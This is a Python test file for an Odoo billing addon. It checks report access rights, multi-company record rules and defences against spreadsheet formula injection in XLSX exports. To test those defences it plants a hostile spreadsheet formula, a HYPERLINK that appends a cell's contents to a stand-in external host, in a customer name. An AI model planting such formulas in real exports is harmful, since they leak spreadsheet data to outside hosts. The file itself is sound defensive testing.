import io
import json
from datetime import timedelta
from urllib.parse import quote

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, new_test_user, tagged

from .common import BillingDisputeCommon

STATEMENT = "billing_specialist.report_billing_statement"
EVIL_NAME = '=HYPERLINK("http://x.example"&B3,"x")'
EVIL_REF = "=1+2"


@tagged("post_install", "-at_install")
class TestReportSecurity(BillingDisputeCommon, HttpCase):
    """Issue 9: who may read statements and the analysis, and that text from the data never becomes a formula."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.inv = cls._invoice(500.0, invoice_date=cls.today - timedelta(days=40))
        cls.foreign = cls._invoice(777.0, partner=cls.other_customer, invoice_date=cls.today - timedelta(days=30))
        cls.plain_user = new_test_user(
            cls.env,
            login="bs_plain",
            groups="base.group_user",
            name="Paul Plain",
            company_id=cls.company.id,
            company_ids=[Command.set(cls.company.ids)],
        )
        cls.other_company = cls.setup_other_company()["company"]
        cls.other_specialist = new_test_user(
            cls.env,
            login="bs_specialist_b",
            groups="base.group_user,billing_specialist.group_billing_user",
            name="Olga Other",
            company_id=cls.other_company.id,
            company_ids=[Command.set(cls.other_company.ids)],
        )

    def _report(self, converter, partner, **options):
        url = f"/report/{converter}/{STATEMENT}/{partner.id}"
        if options:
            url += f"?options={quote(json.dumps(options))}"
        return self.url_open(url)

    def assertRefused(self, response, *documents):
        self.assertNotEqual(response.status_code, 200, response.text[:200] if response.status_code == 200 else "")
        for document in documents:
            self.assertNotIn(document.name, response.text)

    # ------------------------------------------------------------------ weakness 2: statement report

    def test_statement_report_refused_without_invoicing_rights(self):
        self.authenticate("bs_plain", "bs_plain")
        self.assertRefused(self._report("html", self.customer), self.inv)
        self.assertRefused(self._report("pdf", self.customer), self.inv)
        with self.assertRaises(AccessError):
            self.env["ir.actions.report"].with_user(self.plain_user)._render_qweb_html(STATEMENT, self.customer.ids)

    def test_statement_report_refused_to_portal_users(self):
        self.authenticate("bs_portal", "bs_portal")
        self.assertRefused(self._report("html", self.other_customer), self.foreign)
        # The portal's own page still works, with the portal's own check.
        page = self.url_open("/my/statement")
        self.assertEqual(page.status_code, 200)
        self.assertIn(self.inv.name, page.text)
        self.assertNotIn(self.foreign.name, page.text)

    def test_statement_report_refused_for_another_company(self):
        self.authenticate("bs_specialist_b", "bs_specialist_b")
        self.assertRefused(self._report("html", self.customer, company_id=self.company.id), self.inv)
        with self.assertRaises(AccessError):
            self.env["billing.statement"].with_user(self.other_specialist)._get_statement(
                self.customer, self.company, self.today - timedelta(days=90), self.today
            )
        with self.assertRaises(AccessError):
            self.env["billing.statement.wizard"].with_user(self.other_specialist).create(
                {"partner_id": self.customer.id, "company_id": self.company.id}
            )

    def test_statement_report_for_a_specialist(self):
        self.authenticate("bs_specialist", "bs_specialist")
        page = self._report("html", self.customer)
        self.assertEqual(page.status_code, 200)
        self.assertIn(self.inv.name, page.text)
        self.assertNotIn(self.foreign.name, page.text)

    def test_statement_report_with_garbage_options_is_a_clear_refusal(self):
        """Options typed into the report URL are checked: bad dates or ids are a message, not a server error."""
        self.authenticate("bs_specialist", "bs_specialist")
        for options in ({"date_from": "garbage"}, {"date_to": "2026-13-45"}, {"company_id": "x"}):
            page = self._report("html", self.customer, **options)
            self.assertEqual(page.status_code, 400, options)
            self.assertIn("not valid", page.text)
            self.assertNotIn(self.inv.name, page.text)

    def test_print_pdf_from_the_wizard_carries_the_customer(self):
        wizard = (
            self.env["billing.statement.wizard"]
            .with_user(self.specialist)
            .create({"partner_id": self.customer_contact.id, "date_from": self.today - timedelta(days=60)})
        )
        action = wizard.action_print()
        self.assertEqual(action["data"]["partner_ids"], self.customer.ids)
        # The URL the web client builds for a report with options: no record ids in the path.
        self.authenticate("bs_specialist", "bs_specialist")
        options = quote(json.dumps(action["data"]))
        context = quote(json.dumps({"active_ids": self.customer.ids}))
        page = self.url_open(f"/report/html/{STATEMENT}?options={options}&context={context}")
        self.assertEqual(page.status_code, 200)
        self.assertIn(self.inv.name, page.text)

    # ------------------------------------------------------------------ weakness 3: company rules

    def test_every_model_with_a_company_has_a_company_rule(self):
        missing, checked = [], []
        for name, model in self.env.registry.items():
            if model._original_module != "billing_specialist" or model._abstract:
                continue
            field = model._fields.get("company_id")
            if not field or not field.store:
                continue
            checked.append(name)
            rules = self.env["ir.rule"].sudo().search([("model_id.model", "=", name), ("global", "=", True)])
            if not rules.filtered(
                lambda rule: "company_id" in rule.domain_force and "company_ids" in rule.domain_force
            ):
                missing.append(name)
        self.assertFalse(missing, "models of the addon with a company and no multi-company rule")
        self.assertIn("billing.activity.report", checked, "SQL views are walked too")
        self.assertIn("billing.dispute", checked)

    def test_activity_analysis_hides_other_companies(self):
        journal = self.env["account.journal"].search(
            [("company_id", "=", self.other_company.id), ("type", "=", "sale")], limit=1
        )
        other_invoice = self._invoice(999.0, company_id=self.other_company.id, journal_id=journal.id)
        Report = self.env["billing.activity.report"]
        self.assertTrue(Report.search([("move_id", "=", other_invoice.id)]), "the superuser sees it")
        as_specialist = Report.with_user(self.specialist)
        rows = as_specialist.search_read([], ["move_id", "company_id", "amount_total"])
        self.assertTrue(rows)
        self.assertEqual({row["company_id"][0] for row in rows}, {self.company.id})
        totals = as_specialist.read_group([], ["amount_total:sum"], ["company_id"])
        self.assertEqual([group["company_id"][0] for group in totals], [self.company.id])
        self.assertFalse(as_specialist.search([("company_id", "=", self.other_company.id)]))

    # ------------------------------------------------------------------ weakness 4: formula injection

    def _evil_ledger(self):
        self.customer.name = EVIL_NAME
        return self._invoice(300.0, ref=EVIL_REF, invoice_date=self.today - timedelta(days=50))

    def _assert_text(self, cell, value):
        self.assertEqual((cell.value, cell.data_type), (value, "s"), f"{cell.coordinate} must be text")

    def _ref_cell(self, sheet, document):
        row = next(row for row in range(8, sheet.max_row + 1) if sheet.cell(row, 2).value == document.name)
        return sheet.cell(row, 4)

    def test_workbook_aging_writes_names_as_text(self):
        self._evil_ledger()
        wizard = (
            self.env["billing.report.wizard"]
            .with_user(self.specialist)
            .create({"date_from": self.today - timedelta(days=60), "date_to": self.today})
        )
        action = wizard.action_download_xlsx()
        attachment = self.env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0]))
        book = openpyxl.load_workbook(io.BytesIO(attachment.raw))
        aging = book["Aging"]
        cell = next(aging.cell(row, 1) for row in range(4, aging.max_row + 1) if aging.cell(row, 1).value == EVIL_NAME)
        self._assert_text(cell, EVIL_NAME)
        invoices = book["Invoices"]
        customers = [invoices.cell(row, 3) for row in range(2, invoices.max_row + 1)]
        self._assert_text(next(c for c in customers if c.value == EVIL_NAME), EVIL_NAME)

    def test_back_office_statement_writes_text(self):
        evil = self._evil_ledger()
        wizard = (
            self.env["billing.statement.wizard"]
            .with_user(self.specialist)
            .create({"partner_id": self.customer.id, "date_from": self.today - timedelta(days=60)})
        )
        action = wizard.action_download_xlsx()
        attachment = self.env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0]))
        sheet = openpyxl.load_workbook(io.BytesIO(attachment.raw))["Statement"]
        self._assert_text(sheet["A2"], EVIL_NAME)
        self._assert_text(self._ref_cell(sheet, evil), EVIL_REF)
        self.assertEqual(sheet["H10"].data_type, "f", "the running balance stays the addon's own formula")

    def test_portal_statement_writes_text(self):
        evil = self._evil_ledger()
        self.authenticate("bs_portal", "bs_portal")
        response = self.url_open("/my/statement?output=xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Statement"]
        self._assert_text(sheet["A2"], EVIL_NAME)
        self._assert_text(self._ref_cell(sheet, evil), EVIL_REF)


@tagged("post_install", "-at_install")
class TestAgingRowOfAnotherCompany(BillingDisputeCommon):
    """An aging row created for a company that is not the user's opens nothing (an attacker's test)."""

    def test_aging_row_of_another_company_opens_nothing(self):
        other_company = self.setup_other_company(name="Attack Aging Co")["company"]
        # A client makes no aging row (the report makes them, as the system, for its user).
        with self.assertRaises(AccessError):
            self.env["billing.report.aging.line"].with_user(self.specialist).create(
                {"partner_id": self.customer.id, "company_ids": [Command.set(other_company.ids)]}
            )
        # One made for the specialist naming a company that is not his opens nothing.
        row = (
            self.env["billing.report.aging.line"]
            .with_user(self.specialist)
            .sudo()
            .create(
                {
                    "partner_id": self.customer.id,
                    "date_as_of": self.today,
                    "company_ids": [Command.set(other_company.ids)],
                }
            )
        )
        with self.assertRaises(UserError):  # the company is not the specialist's: refused either way
            row.sudo(False).action_open_items()
